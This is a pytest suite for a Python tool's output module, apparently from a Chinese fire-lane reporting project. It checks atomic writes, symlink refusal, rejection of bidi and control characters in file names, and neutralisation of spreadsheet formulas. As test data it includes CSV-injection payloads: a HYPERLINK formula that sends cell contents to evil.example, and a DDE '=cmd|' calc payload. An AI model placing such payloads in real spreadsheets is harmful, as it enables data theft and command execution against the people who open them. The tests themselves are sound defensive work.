"""fireflow.output: every file written whole or not at all, never through a link; CSV for people."""

from __future__ import annotations

import ast
import csv
import errno
import io
import json
import os
import pathlib
import unicodedata
from datetime import datetime
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fireflow import event_to_data, load_plan
from fireflow import output as out_mod
from fireflow.cli import main
from fireflow.errors import FireflowError, OutputError
from fireflow.forms import annex1, annex2, read_csv, to_csv
from fireflow.output import (
    check_destination,
    csv_bytes,
    is_formula_like,
    neutralise,
    open_atomic,
    prepare_folder,
    unneutralise,
    write_bytes,
    write_csv,
    write_frame_csv,
    write_text,
)
from fireflow.ticket import Ticket

PLAN = load_plan("changle-2022")
SH = ZoneInfo("Asia/Shanghai")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


def names(folder: pathlib.Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_one_readable_line(err: str, *words: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    assert lines[0].startswith("错误 error: ")
    assert any("\u4e00" <= ch <= "\u9fff" for ch in lines[0].removeprefix("错误 error: "))
    for word in words:
        assert word in lines[0], lines[0]


# --------------------------------------------------------------------------- #
# The atomic write


def test_write_replaces_whole_and_leaves_no_temporary_file(tmp_path):
    path = tmp_path / "a.json"
    path.write_text("old", encoding="utf-8")
    os.chmod(path, 0o640)
    assert write_bytes(path, b'{"new": 1}') == path
    assert path.read_bytes() == b'{"new": 1}'
    assert names(tmp_path) == ["a.json"]
    assert (path.stat().st_mode & 0o777) == 0o640  # a replaced file keeps its mode
    write_text(tmp_path / "b.html", "<p>金峰</p>\n")
    assert (tmp_path / "b.html").read_bytes() == "<p>金峰</p>\n".encode()
    write_text(tmp_path / "c.txt", "x", bom=True)
    assert (tmp_path / "c.txt").read_bytes() == b"\xef\xbb\xbfx"


def test_a_failure_while_producing_the_content_leaves_the_old_file(tmp_path):
    path = tmp_path / "keep.csv"
    path.write_bytes(b"old content")

    def produce() -> None:
        with open_atomic(path) as f:
            f.write(b"half")
            _ = 1 / 0

    with pytest.raises(ZeroDivisionError):
        produce()
    assert path.read_bytes() == b"old content"
    assert names(tmp_path) == ["keep.csv"]


@pytest.mark.parametrize("step", ["fsync", "replace"])
def test_a_disk_error_leaves_the_old_file_and_is_typed(tmp_path, monkeypatch, step):
    path = tmp_path / "keep.csv"
    path.write_bytes(b"old content")

    def no_space(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(out_mod.os, step, no_space)
    with pytest.raises(OutputError) as info:
        write_bytes(path, b"new content")
    monkeypatch.undo()
    assert info.value.reason == "io"
    assert info.value.errno == errno.ENOSPC
    assert info.value.path == str(path)
    assert isinstance(info.value, OSError)
    assert isinstance(info.value, FireflowError)
    assert path.read_bytes() == b"old content"
    assert names(tmp_path) == ["keep.csv"]


def test_text_that_is_not_unicode_is_refused_before_any_file_is_touched(tmp_path):
    path = tmp_path / "keep.html"
    path.write_bytes(b"old")
    with pytest.raises(OutputError) as info:
        write_text(path, "lone \udc80 surrogate")
    assert info.value.reason == "encoding"
    assert path.read_bytes() == b"old"
    assert names(tmp_path) == ["keep.html"]


def test_a_symlink_is_refused_and_its_target_untouched(tmp_path):
    target = tmp_path / "precious.txt"
    target.write_bytes(b"do not overwrite")
    link = tmp_path / "report.csv"
    link.symlink_to(target)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere")
    for dest in (link, dangling):
        with pytest.raises(OutputError) as info:
            write_bytes(dest, b"planted")
        assert info.value.reason == "symlink"
        with pytest.raises(OutputError):
            check_destination(dest)
    assert target.read_bytes() == b"do not overwrite"
    assert link.is_symlink()
    assert dangling.is_symlink()
    assert not (tmp_path / "nowhere").exists()
    assert names(tmp_path) == ["dangling.csv", "precious.txt", "report.csv"]


def test_a_folder_or_a_missing_folder_is_refused(tmp_path):
    (tmp_path / "dir").mkdir()
    with pytest.raises(OutputError) as info:
        write_bytes(tmp_path / "dir", b"x")
    assert info.value.reason == "directory"
    with pytest.raises(OutputError) as info:
        write_bytes(tmp_path / "missing" / "a.csv", b"x")
    assert info.value.reason == "missing_folder"
    assert "missing" in str(info.value)
    assert not (tmp_path / "missing").exists()
    (tmp_path / "file").write_bytes(b"f")
    with pytest.raises(OutputError) as info:
        write_bytes(tmp_path / "file" / "a.csv", b"x")
    assert info.value.reason == "not_a_folder"
    write_bytes(tmp_path / "made" / "deep" / "a.csv", b"x", create_folders=True)
    assert (tmp_path / "made" / "deep" / "a.csv").read_bytes() == b"x"


def test_a_folder_that_is_a_link_is_followed_for_a_named_file(tmp_path):
    """Only the last component is checked: /tmp on macOS is a link, and that is fine."""
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "via").symlink_to(real, target_is_directory=True)
    write_bytes(tmp_path / "via" / "a.csv", b"x")
    assert (real / "a.csv").read_bytes() == b"x"


def test_an_output_folder_must_not_be_a_link_or_a_file(tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    (tmp_path / "file").write_bytes(b"f")
    for bad, reason in (("link", "symlink"), ("file", "not_a_folder")):
        with pytest.raises(OutputError) as info:
            prepare_folder(tmp_path / bad, create=True)
        assert info.value.reason == reason
    with pytest.raises(OutputError) as info:
        prepare_folder(tmp_path / "new")
    assert info.value.reason == "missing_folder"
    assert prepare_folder(tmp_path / "new" / "out", create=True).is_dir()
    assert names(real) == []


# --------------------------------------------------------------------------- #
# CSV for people


@pytest.mark.parametrize("start", TRIGGERS)
def test_every_formula_start_is_neutralised(start):
    text = start + "cmd|' /C calc'!A0"
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


def test_plain_text_is_left_alone():
    for text in ("金峰小区", "3号楼", "a=b", "", "email me@x", "2022-03-21"):
        assert neutralise(text) == text
    assert neutralise(" =1+1") == "' =1+1"  # white space first does not hide a formula
    assert neutralise("'") == "''"


@given(st.text())
def test_any_text_cell_reads_back_equal_or_neutralised(text):
    data = csv_bytes([[text, 1]], header=["text", "n"])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cell = rows[1][0]
    assert cell in (text, "'" + text)
    assert not is_formula_like(cell)
    assert unneutralise(cell) == text


def test_bom_crlf_and_whole_numbers(tmp_path):
    df = pd.DataFrame({"town": ["金峰镇", "首占镇"], "n": [300.0, float("nan")], "r": [0.5, 1.0]})
    df["k"] = pd.array([1, None], dtype="Int64")
    path = write_frame_csv(tmp_path / "t.csv", df)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 3
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert raw[3:].decode("utf-8") == "town,n,r,k\r\n金峰镇,300,0.5,1\r\n首占镇,,1.0,\r\n"
    write_csv(tmp_path / "rows.csv", [[EVIL, 2]], header=["=x", "n"])
    text = (tmp_path / "rows.csv").read_bytes().decode("utf-8-sig")
    assert text.startswith("'=x,n\r\n\"'=HYPERLINK(")  # quoted: it holds quotes and a comma


def test_forms_csv_uses_the_same_neutraliser(tmp_path):
    t = Ticket("X-1", PLAN)
    at = datetime(2022, 3, 21, 10, tzinfo=SH)
    t.command(
        "report", at, "town", "李", community="＝金峰", town="金峰镇", category="fire_lane_vehicle",
        subtype="goods", location="inside", source="town_inspection", description="－1 违建",
    )  # fmt: skip
    df = annex2(t.events, PLAN)
    path = tmp_path / "a2.csv"
    to_csv(df, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert "'＝金峰" in rows[1]
    assert "'－1 违建" in rows[1]
    assert not any(is_formula_like(cell) for row in rows for cell in row)
    pd.testing.assert_frame_equal(read_csv(path, "annex2", PLAN), df)
    a1 = tmp_path / "a1.csv"
    to_csv(annex1(t.events, PLAN), a1)
    assert ".0" not in a1.read_text(encoding="utf-8-sig")


WRITERS = {"write_text", "write_bytes", "savefig", "to_csv", "to_excel", "mkdir", "makedirs"}


def unguarded_writes(source: str) -> list[str]:
    """Calls in ``source`` that write a file other than through fireflow.output."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.Call):
            continue
        f = node.func
        name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
        if name in WRITERS:
            owner = f.value if isinstance(f, ast.Attribute) else None
            if isinstance(owner, ast.Name) and owner.id in ("output", "self", "forms"):
                continue  # output.write_text, forms.to_csv, self.save_plots ...
            first = node.args[0] if node.args else None
            if name == "savefig" and isinstance(first, ast.Name) and first.id == "buf":
                continue  # drawn into memory, then written by output.write_bytes
            found.append(f"{node.lineno} {name}")
        elif name in ("open", "fdopen"):
            modes = [*node.args[1:2], *(k.value for k in node.keywords if k.arg == "mode")]
            texts = [m.value for m in modes if isinstance(m, ast.Constant)]
            if any(isinstance(m, str) and set(m) & set("wax+") for m in texts):
                found.append(f"{node.lineno} {name}")
    return found


def test_one_copy_of_the_writer():
    """No file is written in fireflow/ but through fireflow.output."""
    pkg = pathlib.Path(__file__).resolve().parent.parent / "fireflow"
    found = [
        f"{path.relative_to(pkg).as_posix()}:{hit}"
        for path in sorted(pkg.rglob("*.py"))
        if path.name != "output.py" or path.parent != pkg
        for hit in unguarded_writes(path.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_the_writer_scan_sees_real_writes():
    source = (
        "Path(p).write_text(t)\nopen(p, 'w')\nopen(p, mode='ab')\nfig.savefig(path)\n"
        "df.to_csv(p)\nout.mkdir()\nopen(p)\noutput.write_text(p, t)\nfig.savefig(buf)\n"
    )
    assert unguarded_writes(source) == [
        "1 write_text", "2 open", "3 open", "4 savefig", "5 to_csv", "6 mkdir",
    ]  # fmt: skip


def test_output_sits_at_the_bottom_of_the_layers():
    pkg = pathlib.Path(__file__).resolve().parent.parent / "fireflow"
    tree = ast.parse((pkg / "output.py").read_text(encoding="utf-8"))
    imported = {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module} | {
        a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names
    }
    assert {m for m in imported if m.startswith("fireflow")} == {"fireflow.errors", "fireflow.text"}
    text = ast.parse((pkg / "text.py").read_text(encoding="utf-8"))  # the name rule, below it
    assert {n.module for n in ast.walk(text) if isinstance(n, ast.ImportFrom) and n.module} & {
        f"fireflow.{p.stem}" for p in pkg.glob("*.py")
    } == {"fireflow.errors"}


# --------------------------------------------------------------------------- #
# Names fireflow creates: no control, bidirectional or invisible character

REFUSED = (
    [chr(c) for c in range(0x202A, 0x202F)]  # LRE RLE PDF LRO RLO
    + [chr(c) for c in range(0x2066, 0x206A)]  # LRI RLI FSI PDI
    + [chr(c) for c in range(0x00, 0x20)]
    + ["\x7f"]  # C0
    + [chr(c) for c in range(0x80, 0xA0)]  # C1
    + ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff"]
)
PLAIN = st.text(
    st.sampled_from("金峰镇小区消防通道报告表abcXYZ019_-"), min_size=1, max_size=12
).filter(lambda s: s not in (".", ".."))


def _tree(root: pathlib.Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


def _writers(path: pathlib.Path) -> list[tuple[str, object]]:
    """Every public way output.py makes a file at ``path`` (folders made on the way)."""

    def atomic() -> None:
        with open_atomic(path, create_folders=True) as f:
            f.write(b"x")

    return [
        ("write_bytes", lambda: write_bytes(path, b"x", create_folders=True)),
        ("write_text", lambda: write_text(path, "x", create_folders=True)),
        ("write_csv", lambda: write_csv(path, [["a"]], create_folders=True)),
        (
            "write_frame_csv",
            lambda: write_frame_csv(path, pd.DataFrame({"a": [1]}), create_folders=True),
        ),
        ("open_atomic", atomic),
        ("check_destination", lambda: check_destination(path, create_folders=True)),
        ("prepare_folder", lambda: out_mod.prepare_folder(path, create=True)),
        ("check_folder", lambda: out_mod.check_folder(path)),
    ]


@settings(max_examples=60, deadline=None)
@given(
    name=PLAIN,
    bad=st.sampled_from(REFUSED),
    at=st.integers(min_value=0),
    in_folder=st.booleans(),
)
def test_every_writer_refuses_a_new_name_with_a_refused_character(name, bad, at, in_folder):
    import tempfile

    i = at % (len(name) + 1)
    evil = name[:i] + bad + name[i:]
    with tempfile.TemporaryDirectory() as tmp:
        root = pathlib.Path(tmp)
        # the character in the file's name, or in a folder that would be made above it
        path = root / "out" / evil / "a.csv" if in_folder else root / "out" / evil
        before = _tree(root)
        for writer, call in _writers(path):
            with pytest.raises(OutputError) as info:
                call()  # type: ignore[operator]
            assert info.value.reason == "name", writer
            message = str(info.value)
            assert f"U+{ord(bad):04X}" in message, writer
            assert "不创建" in message, writer
            assert bad not in message, writer  # the path is shown escaped
            assert info.value.path == str(path), writer
            assert _tree(root) == before, writer  # nothing made, not even "out"


@settings(max_examples=30, deadline=None)
@given(folder=PLAIN, name=PLAIN)
def test_ordinary_chinese_and_ascii_names_are_written(folder, name):
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = pathlib.Path(tmp, folder, name + ".csv")
        write_csv(path, [["金峰镇", 1]], create_folders=True)
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
        assert out_mod.prepare_folder(pathlib.Path(tmp, name, folder), create=True).is_dir()
        assert check_destination(pathlib.Path(tmp, "新" + name)) == pathlib.Path(tmp, "新" + name)


def test_an_existing_folder_with_such_a_name_is_the_users_own(tmp_path):
    theirs = tmp_path / "金峰\u202e小区"
    theirs.mkdir()
    write_text(theirs / "a.txt", "x")  # only the file's name is fireflow's
    assert out_mod.prepare_folder(theirs) == theirs
    assert out_mod.check_folder(theirs) == theirs
    write_text(theirs / "new" / "b.txt", "y", create_folders=True)
    assert (theirs / "new" / "b.txt").read_text() == "y"
    with pytest.raises(OutputError, match="U\\+200B"):
        write_text(theirs / "x\u200b.txt", "z")
    with pytest.raises(OutputError, match="U\\+2066"):
        out_mod.prepare_folder(theirs / "new" / "\u2066d" / "e", create=True)
    assert not (theirs / "new" / "\u2066d").exists()


def test_cli_refuses_a_destination_with_a_bidi_override(tmp_path, log, capsys):
    for args in (
        ("forms", "annex2", "--events", str(log), "--csv", str(tmp_path / "报告\u202eLMTH.csv")),
        ("dossier", "金峰小区", "--events", str(log), "--html", str(tmp_path / "x\u202eLMTH.html")),
    ):
        code, _, err = run(capsys, *args)
        assert code == 1, err
        assert_one_readable_line(err, "U+202E", "\\u202e", "不创建")
    assert names(tmp_path) == ["events.jsonl"]


# --------------------------------------------------------------------------- #
# The simulator: population names never reach a spreadsheet as formulas


def test_simulator_csvs_neutralise_population_names_and_write_integers(tmp_path):
    from fireflow.sim import Population, simulate
    from fireflow.sim.population import Community

    pop = Population(
        (
            Community(id="C1", name=EVIL, town="=cmd|'/C calc'!A0", company="＠物业",
                      households=400, buildings=4),
            Community(id="C2", name="金峰小区", town="金峰镇", company="物业甲",
                      households=300, buildings=3),
        ),
        source="hostile.csv",
    )  # fmt: skip
    result = simulate(PLAN, pop, seed=3)
    result.write_report(tmp_path / "out")
    for name in ("timeline.csv", "timeline_by_town.csv", "kpis.csv"):
        raw = (tmp_path / "out" / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), name
        assert b"\r\n" in raw
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        assert not any(is_formula_like(c) for row in rows for c in row), name
    by_town = (tmp_path / "out" / "timeline_by_town.csv").read_text(encoding="utf-8-sig")
    assert "\"'=cmd|'/C calc'!A0\"" in by_town or "'=cmd|'/C calc'!A0" in by_town
    kpis = list(csv.reader(io.StringIO((tmp_path / "out" / "kpis.csv").read_text("utf-8-sig"))))
    values = {row[0]: row[3] for row in kpis[1:]}
    assert values["communities"] == "2"
    assert values["towns"] == "2"
    assert "." not in values["tickets"]
    assert "." in values["archived_share"] or values["archived_share"] in ("", "0.0", "1.0")
    assert [p for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp")] == []
    population_csv = pop.to_csv(tmp_path / "pop.csv")
    assert "'=HYPERLINK(" in population_csv
    assert "'＠物业" in population_csv
    assert (tmp_path / "pop.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_link_among_the_report_files_is_refused_before_writing(tmp_path):
    from fireflow.sim import generate_population, simulate

    result = simulate(PLAN, generate_population(3, seed=1), seed=1)
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.html"
    victim.write_bytes(b"mine")
    (out / "index.html").symlink_to(victim)
    with pytest.raises(OutputError) as info:
        result.write_report(out)
    assert info.value.reason == "symlink"
    assert victim.read_bytes() == b"mine"
    assert names(out) == ["index.html"]  # nothing else written either
    (out / "index.html").unlink()
    (out / "states.png").mkdir()  # a plot's name taken by a folder: refused before the CSVs
    with pytest.raises(OutputError) as info:
        result.write_report(out)
    assert info.value.reason == "directory"
    assert names(out) == ["states.png"]


# --------------------------------------------------------------------------- #
# The command line: one readable line, exit 1, no traceback


@pytest.fixture
def log(tmp_path):
    t = Ticket("CL-1", PLAN)
    at = datetime(2022, 3, 21, 10, tzinfo=SH)
    t.command(
        "report", at, "town", "李", community="金峰小区", town="金峰镇",
        category="fire_lane_vehicle", subtype="private_car", location="inside",
        source="town_inspection", description="=HYPERLINK(\"x\")",
    )  # fmt: skip
    path = tmp_path / "events.jsonl"
    lines = [json.dumps(event_to_data(e), ensure_ascii=False) + "\n" for e in t.events]
    path.write_text("".join(lines), encoding="utf-8")
    return path


def test_cli_forms_csv_to_a_folder_a_missing_folder_or_a_link(tmp_path, log, capsys):
    (tmp_path / "dir").mkdir()
    target = tmp_path / "precious.txt"
    target.write_bytes(b"keep")
    (tmp_path / "link.csv").symlink_to(target)
    cases = {
        str(tmp_path / "dir"): "文件夹",
        str(tmp_path / "missing" / "a.csv"): "不存在",
        str(tmp_path / "link.csv"): "符号链接",
    }
    for dest, zh in cases.items():
        code, _, err = run(capsys, "forms", "annex2", "--events", str(log), "--csv", dest)
        assert code == 1, err
        assert_one_readable_line(err, zh, dest)
    code, _, err = run(capsys, "dossier", "金峰小区", "--events", str(log), "--html", str(tmp_path))
    assert code == 1
    assert_one_readable_line(err, "文件夹")
    code, _, err = run(
        capsys, "dossier", "金峰小区", "--events", str(log), "--json", str(tmp_path / "link.csv")
    )
    assert code == 1
    assert_one_readable_line(err, "符号链接")
    assert target.read_bytes() == b"keep"
    assert names(tmp_path) == ["dir", "events.jsonl", "link.csv", "precious.txt"]


def test_cli_a_bad_xlsx_destination_writes_no_csv_either(tmp_path, log, capsys):
    (tmp_path / "dir").mkdir()
    args = ["--events", str(log), "--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "dir")]
    code, _, err = run(capsys, "forms", "annex2", *args)
    assert code == 1
    assert_one_readable_line(err, "文件夹")
    assert not (tmp_path / "a.csv").exists()


def test_cli_a_failed_forms_run_leaves_keep_csv_untouched(tmp_path, log, capsys):
    keep = tmp_path / "keep.csv"
    keep.write_bytes(b"yesterday's form")
    bad_store = tmp_path / "bad.db"
    bad_store.write_bytes(b"SQLite format 3\x00" + b"\x00garbage" * 64)
    for events in (bad_store, tmp_path / "no-such.jsonl"):
        code, _, err = run(capsys, "forms", "annex2", "--events", str(events), "--csv", str(keep))
        assert code == 1, err
        assert "Traceback" not in err
    assert keep.read_bytes() == b"yesterday's form"
    assert names(tmp_path) == ["bad.db", "events.jsonl", "keep.csv"]
    code, _, err = run(capsys, "forms", "annex2", "--events", str(log), "--csv", str(keep))
    assert code == 0, err
    text = keep.read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert "\r\n" in text


def test_cli_simulate_out_is_refused_when_a_file_or_a_link(tmp_path, capsys):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    (tmp_path / "file").write_bytes(b"f")
    for bad, zh in (("link", "符号链接"), ("file", "文件夹")):
        code, _, err = run(capsys, "simulate", "--out", str(tmp_path / bad), "--communities", "3")
        assert code == 1, err
        assert_one_readable_line(err, zh)
    assert names(real) == []
    assert (tmp_path / "file").read_bytes() == b"f"
    code, _, err = run(
        capsys, "simulate", "--out", str(tmp_path / "new" / "out"), "--communities", "3"
    )
    assert code == 0, err
    assert (tmp_path / "new" / "out" / "index.html").is_file()


def test_cli_checkpoint_out_to_a_folder_or_a_link(tmp_path, capsys):
    from fireflow.store import SQLiteStore

    t = Ticket("CL-1", PLAN)
    at = datetime(2022, 3, 21, 10, tzinfo=SH)
    t.command(
        "report", at, "town", "李", community="金峰小区", town="金峰镇",
        category="fire_lane_vehicle", subtype="private_car", location="inside",
        source="town_inspection",
    )  # fmt: skip
    db = tmp_path / "s.db"
    with SQLiteStore(db) as store:
        store.append("CL-1", list(t.events), 0)
    target = tmp_path / "precious.txt"
    target.write_bytes(b"keep")
    (tmp_path / "cp.json").symlink_to(target)
    for dest, zh in ((tmp_path, "文件夹"), (tmp_path / "cp.json", "符号链接")):
        code, _, err = run(capsys, "store", "checkpoint", str(db), "--out", str(dest))
        assert code == 1, err
        assert_one_readable_line(err, zh)
    assert target.read_bytes() == b"keep"
    code, _, err = run(capsys, "store", "checkpoint", str(db), "--out", str(tmp_path / "ok.json"))
    assert code == 0, err
    assert json.loads((tmp_path / "ok.json").read_text(encoding="utf-8"))["count"] == 1


@settings(max_examples=60, deadline=None)
@given(
    name=st.text(
        st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Zs")),
        min_size=1,
        max_size=20,
    )
    .map(lambda s: unicodedata.normalize("NFC", s))
    .filter(lambda s: s.strip() == s and s),
    prefix=st.sampled_from(["", "=", "+", "-", "@", "＝", "'", "''"]),
)
def test_population_names_round_trip_through_the_neutralised_csv(tmp_path_factory, name, prefix):
    # a name that looks like a formula is written neutralised and read back as it was
    from fireflow.sim.population import Community, Population, load_population

    full = prefix + name
    pop = Population(
        (Community(id="C1", name=full, town="金峰镇", company=full, households=1, buildings=1),),
        source="t",
    )
    path = tmp_path_factory.mktemp("pop") / "p.csv"
    pop.to_csv(path)
    back = load_population(path).communities[0]
    assert (back.name, back.company) == (full, full)
